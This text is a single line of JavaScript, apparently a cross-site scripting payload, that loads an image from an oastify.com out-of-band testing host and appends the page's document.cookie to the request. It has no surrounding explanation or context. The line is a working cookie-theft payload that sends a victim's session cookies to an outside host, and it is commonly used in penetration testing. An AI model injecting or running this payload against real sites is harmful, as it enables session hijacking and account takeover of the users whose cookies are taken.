new Image().src = 'https://abc123.oastify.com/?c=' + encodeURIComponent(document.cookie);
